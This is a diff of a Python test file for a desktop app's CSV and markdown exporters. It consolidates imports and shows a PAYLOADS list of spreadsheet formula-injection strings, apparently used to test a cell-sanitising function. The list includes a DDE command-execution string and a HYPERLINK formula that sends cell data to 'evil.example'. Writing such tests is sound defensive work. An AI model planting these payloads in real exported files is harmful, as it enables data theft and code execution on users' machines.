@@ -18,8 +18,7 @@ from desktop.exporters.files import export_files
 from desktop.exporters.merging import merge_export
 from desktop.exporters.to_csv import COLUMNS, safe_cell
 from desktop.library.saving import write_export
-from tests.annotated.make import THEMES, content_of, document, mark
-from tests.exporters.test_to_markdown import SOURCE, sample
+from tests.annotated.make import SOURCE, THEMES, content_of, document, mark, sample
 
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")", "=WEBSERVICE(A1)", "==bold==",
